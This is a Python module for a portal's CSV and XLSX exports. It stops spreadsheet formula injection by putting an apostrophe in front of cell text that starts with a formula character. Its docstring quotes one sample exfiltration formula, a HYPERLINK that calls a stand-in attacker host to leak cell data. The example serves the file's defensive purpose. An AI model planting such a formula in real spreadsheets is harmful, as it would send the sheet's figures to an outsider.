"""Cells for the CSV and XLSX files the portal writes: text can never become a formula.

Every spreadsheet the portal hands out (dashboard exports, the monthly report) passes each
cell through `safe_cell`. Names typed by staff (a premises called
`=HYPERLINK("http://evil.example/?leak="&A1,"…")`) would otherwise arrive as a live formula
in Excel or WPS on an official's computer, able to send the sheet's figures elsewhere.
"""

from __future__ import annotations

from decimal import Decimal

# What spreadsheet programs read as the start of a formula (OWASP "CSV injection"): the
# formula signs, and tab / carriage return, which some programs skip before looking.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """`value` as a spreadsheet cell: numbers stay numbers; text that a spreadsheet would read
    as a formula is prefixed with an apostrophe, which makes it plain text."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text
